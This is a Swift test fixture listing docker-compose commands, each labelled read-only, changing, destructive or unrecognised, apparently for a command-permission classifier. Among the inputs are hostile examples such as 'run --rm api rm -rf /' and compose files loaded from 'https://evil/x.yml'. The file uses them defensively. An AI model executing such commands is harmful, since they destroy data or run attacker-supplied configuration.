extension CommandCases {
    /// docker-compose and its plugin.
    static let compose = CommandCases(
        #"""
        R docker-compose ps
        R docker compose ps
        R docker-compose logs -f api
        R docker-compose config --services
        R docker-compose ps -q api
        R docker-compose ps --services --filter status=running
        R docker compose ps --format json
        R docker-compose logs --tail=100 api
        R docker-compose logs --tail 100 -t api
        R docker-compose logs --since 10m --no-color api
        R docker-compose top api
        R docker-compose images
        R docker-compose config -q
        R docker-compose port api 8000
        R docker-compose version --short
        R docker-compose -p x -f a.yml ps
        C docker compose restart api
        C docker-compose -f docker-compose.yml restart api
        C docker-compose --profile mesh up -d
        C docker-compose pull
        C docker-compose up -d
        C docker-compose up -d --scale api=2
        C docker-compose restart -t 5 api
        D docker-compose stop api
        D docker-compose down
        D docker-compose down -v
        D docker-compose rm -sf api
        D docker-compose pause api
        D docker-compose up -d --scale api=0
        D docker-compose scale api=0
        D docker-compose up -d --remove-orphans
        D docker compose up -d --remove-orphans=true
        D docker-compose up -d --renew-anon-volumes
        D docker compose up -d --renew-anon-volumes=true
        D docker-compose create --force-recreate api
        D docker compose create --force-recreate api
        D docker compose up -d --wait --remove-orphans
        D docker-compose stop
        D docker compose down --volumes
        D docker compose rm -fsv api
        D docker compose kill api
        D docker compose pause
        U docker-compose config --output=.env
        U docker compose publish x
        U docker compose attach api
        U docker compose cp x api:/y
        U docker-compose up
        U docker-compose up api
        U docker-compose up -d -V
        U docker-compose up -dV
        U docker-compose up -Vd
        U docker-compose up -d --renew-anon-volumes=true
        U docker-compose up -d --renew
        U docker-compose up -d --renew-anon-volumes=false
        U docker-compose up -d --remove-orphans=true
        U docker-compose up -d --remove
        U docker-compose up -d --no-start
        U docker-compose up --no-start
        U docker-compose up -d --no-start=true
        U docker-compose up --abort-on-container-exit
        U docker-compose up --abort
        U docker-compose up --exit-code-from api
        U docker-compose up --exit-code-from=api
        U docker-compose up -d --force-recreate
        U docker-compose up -d --force
        U docker-compose up -d --always-recreate-deps
        U docker-compose up -d --scale=api=0
        U docker-compose up -d --scale api=00
        U docker-compose up -d --scale api=-1
        U docker-compose up -d --scale api=
        U docker-compose up -d --scale api
        U docker-compose up -d --scale api=1 --scale web=0
        U docker-compose up -d --sc api=0
        U docker-compose up --detach=false
        U docker-compose up -d=false
        U docker-compose up -d --attach api
        U docker-compose up -d --watch
        U docker-compose up -w
        U docker compose up --menu
        U docker compose up -d -y
        U docker compose up -d --timestamps
        U docker compose up -d --wait --no-start
        U docker-compose create
        U docker-compose create api
        U docker-compose create --force-recreate
        U docker-compose create --force
        U docker-compose create --no-recreate --force-recreate
        U docker compose create --remove-orphans --no-recreate
        U docker compose create --scale api=0 --no-recreate
        U docker-compose scale
        U docker-compose scale api=1 web=0
        U docker-compose restart --evil
        U docker-compose restart -t
        U docker-compose restart -s KILL api
        U docker-compose run api sh
        U docker-compose run --rm api rm -rf /
        U docker-compose exec api sh
        U docker-compose exec -T api cat x
        U docker-compose attach api
        U docker-compose cp x api:/y
        U docker-compose push
        U docker-compose build --push
        U docker-compose build --ssh default
        U docker-compose build --builder x
        U docker-compose build --build-arg A=b
        U docker-compose build --secret x
        U docker-compose config -o x
        U docker-compose config -ox
        U docker-compose config -qo x
        U docker-compose config --output x
        U docker-compose config --out=x
        U docker-compose config --lock-image-digests
        U docker-compose config --resolve-image-digests
        U docker-compose config > x
        U docker-compose logs -f api && true
        U docker-compose logs -f api | grep x
        U docker-compose events
        U docker-compose watch
        U docker-compose wait api
        U docker-compose wait --down-project api
        U docker-compose alpha viz
        U docker-compose commit api x
        U docker-compose export api
        U docker-compose export -o x api
        U docker-compose publish x
        U docker-compose bridge convert
        U docker-compose volumes
        U docker-compose stats --no-stream=false
        U docker-compose ps --evil
        U docker-compose logs --evil
        U docker-compose logs -tfx
        U docker-compose -H tcp://x ps
        U docker-compose --host=tcp://x ps
        U docker-compose --context x ps
        U docker-compose -c x ps
        U docker-compose --tlscacert x ps
        U docker-compose -f - ps
        U docker-compose -f /dev/stdin up -d
        U docker-compose -f https://evil/x.yml up -d
        U docker-compose -f git@evil:x.git up -d
        U docker-compose -f github.com/x/y up -d
        U docker-compose --file=github.com/x/y up -d
        U docker-compose -f oci://x up -d
        U docker-compose -fx.yml up -d
        U docker-compose --dry-run down
        U docker-compose --parallel 1 up -d
        U docker-compose --ansi never ps
        U docker-compose --progress plain ps
        U docker-compose -D ps
        U docker-compose --skip-hostname-check ps
        U docker-compose
        U docker-compose --help
        U docker compose
        U docker compose --dry-run up -d
        U docker compose -f
        U docker-compose -f x.yml#main ps
        U docker-compose -f host:x ps
        """#)
}
